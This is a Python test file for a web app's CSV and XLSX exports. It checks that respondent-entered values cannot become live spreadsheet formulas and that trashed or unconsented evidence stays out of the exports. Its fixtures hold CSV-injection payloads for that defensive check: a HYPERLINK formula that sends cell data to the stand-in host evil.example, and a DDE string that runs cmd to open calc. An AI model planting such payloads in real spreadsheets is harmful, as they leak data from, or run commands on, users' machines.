"""The project's data as CSV and XLSX: the documented columns, and never a live formula from a respondent."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from impact.cards.models import CardSource
from impact.cards.services import CardData, save_card
from impact.events.models import Event
from impact.evidence.models import EvidenceItem
from impact.extensions import db as _db
from impact.followups.models import Response
from impact.projects.models import Project
from impact.reports.datasets import DATASETS
from impact.reports.spreadsheets import neutral

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"


def _demo(app, client):
    assert app.test_cli_runner().invoke(args=["demo", "load"]).exit_code == 0
    project = _db.session.scalar(select(Project))
    event = _db.session.scalar(select(Event).where(Event.project_id == project.id).order_by(Event.id))
    save_card(event, CardData("mallory@example.org", ["@SUM(1+1)*cmd|' /C calc'!A0"], name=FORMULA,
                              organisation="+44 131 000 0000"), CardSource.PAPER)
    response = _db.session.scalar(select(Response).order_by(Response.id))
    response.helped = "-2+3 and my manager"
    _db.session.commit()
    assert client.post("/login", data={"email": "lead@demo.example.org", "password": "demo-password"}).status_code \
        == 302
    return project


def _csv(client, project, name: str) -> list[dict[str, str]]:
    response = client.get(f"/projects/{project.id}/data/{name}.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    # Kept only by the browser, revalidated every time, cleared at sign-out (impact/projects/conditional.py).
    assert response.headers["Cache-Control"] == "private, no-cache" and response.headers["ETag"]
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_each_table_has_its_documented_columns_and_formulas_are_only_text(app, db, client):
    project = _demo(app, client)
    page = client.get(f"/projects/{project.id}/data/").get_data(as_text=True)
    for dataset in DATASETS:
        rows = _csv(client, project, dataset.name)
        assert rows and list(rows[0]) == list(dataset.columns), dataset.name
        assert dataset.title in page and f"{dataset.name}.csv" in page
    cards = {row["email"]: row for row in _csv(client, project, "cards")}
    assert cards["mallory@example.org"]["name"] == "'" + FORMULA
    assert cards["mallory@example.org"]["organisation"] == "'+44 131 000 0000"
    actions = [row["action"] for row in _csv(client, project, "actions")]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in actions and not any(text.startswith(("=", "+", "-", "@"))
                                                                   for text in actions)
    responses = _csv(client, project, "responses")
    assert any(row["helped"] == "'-2+3 and my manager" for row in responses)
    claims = _csv(client, project, "claims")
    assert len(claims) == 2 and 0 < float(claims[0]["posterior"]) < 1  # numbers stay numbers


def test_the_workbook_has_a_sheet_per_table_and_no_cell_is_a_formula(app, db, client):
    project = _demo(app, client)
    response = client.get(f"/projects/{project.id}/data.xlsx")
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == [dataset.title for dataset in DATASETS]
    for dataset in DATASETS:
        sheet = book[dataset.title]
        assert [cell.value for cell in sheet[1]] == list(dataset.columns)
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (dataset.name, cell.coordinate, cell.value)
    names = [row[3].value for row in book["Action cards"].iter_rows(min_row=2)]
    assert "'" + FORMULA in names


def test_evidence_in_the_trash_and_quotes_without_consent_stay_out(app, db, client):
    project = _demo(app, client)
    items = _db.session.scalars(select(EvidenceItem).where(EvidenceItem.project_id == project.id)
                                .order_by(EvidenceItem.id)).all()
    trashed = next(item for item in items if not item.quote)
    from impact.model_types import utcnow
    trashed.deleted_at = utcnow()
    unconsented = next(item for item in items if item.quote and not item.consent_to_quote)
    _db.session.commit()
    rows = {int(row["item_id"]): row for row in _csv(client, project, "evidence")}
    assert trashed.id not in rows and unconsented.id in rows
    assert rows[unconsented.id]["quote"] == "" and rows[unconsented.id]["pseudonym"] == ""
    assert unconsented.quote not in client.get(f"/projects/{project.id}/data/evidence.csv").get_data(as_text=True)
    assert all(int(row["item_id"]) != trashed.id for row in _csv(client, project, "evidence_links"))


def test_a_download_runs_the_same_queries_however_many_cards(app, db, client, query_counter):
    project = _demo(app, client)
    event = _db.session.scalar(select(Event).where(Event.project_id == project.id).order_by(Event.id))
    counts = []
    for batch in (2, 20):
        for number in range(batch):
            save_card(event, CardData(f"extra{batch}-{number}@example.org", ["Ask first"]), CardSource.PAPER)
        _db.session.commit()
        with query_counter() as statements:
            assert client.get(f"/projects/{project.id}/data.xlsx").status_code == 200
        counts.append(len(statements))
    assert counts[0] == counts[1], counts


def test_neutral_leaves_numbers_and_plain_text_alone():
    assert neutral(-3) == -3 and neutral(0.25) == 0.25 and neutral("Plain words") == "Plain words"
    assert neutral("=1+1") == "'=1+1" and neutral("\t=1") == "'\t=1" and neutral("@A1") == "'@A1"
